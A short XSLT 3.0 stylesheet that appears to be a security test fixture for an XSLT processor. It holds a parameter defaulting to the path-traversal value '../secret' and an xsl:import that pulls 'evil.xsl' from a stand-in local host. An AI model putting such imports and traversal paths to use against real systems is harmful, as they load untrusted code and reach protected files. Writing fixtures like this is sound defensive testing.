<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:map="http://www.w3.org/2005/xpath-functions/map">
  <xsl:param name="outside" as="xs:string" select="'../secret'"/>
  <xsl:import href="http://127.0.0.1:9/evil.xsl"/>
  <xsl:template match="/"><out></out></xsl:template>
</xsl:stylesheet>
